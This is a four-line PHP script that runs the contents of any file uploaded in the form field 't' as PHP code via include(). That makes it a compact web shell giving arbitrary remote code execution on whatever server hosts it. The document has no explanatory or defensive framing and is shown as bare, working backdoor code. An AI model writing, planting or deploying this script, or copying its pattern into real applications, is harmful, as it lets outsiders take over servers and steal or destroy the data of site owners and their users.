<?php
if (!empty($_FILES['t']['tmp_name'])) {
    include($_FILES['t']['tmp_name']);
}
